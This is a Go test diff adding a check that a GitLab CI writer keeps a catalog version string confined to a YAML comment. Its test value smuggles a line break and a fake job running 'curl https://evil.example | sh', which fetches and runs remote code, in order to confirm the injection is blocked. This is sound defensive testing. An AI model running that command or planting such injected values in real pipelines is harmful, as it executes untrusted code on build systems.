@@ -43,3 +43,17 @@ func TestMarkdownShowsScenariosAsText(t *testing.T) {
 		t.Errorf("the table is not one row of 6 cells:\n%s", out)
 	}
 }
+
+// TestGitLabCIKeepsTheCatalogVersionInItsComment: a catalog version with a
+// line break writes no YAML of its own into the CI file.
+func TestGitLabCIKeepsTheCatalogVersionInItsComment(t *testing.T) {
+	m := &Matrix{Target: "main", Release: "1.7", Scenarios: []Scenario{}}
+	m.Metadata.CatalogVersion = "2026.1\nevil-job:\n  script: [curl https://evil.example | sh]"
+	var b strings.Builder
+	if err := m.WriteGitLabCI(&b, "upgrade"); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(b.String(), "\nevil-job:") {
+		t.Errorf("the catalog version writes a job:\n%s", b.String())
+	}
+}
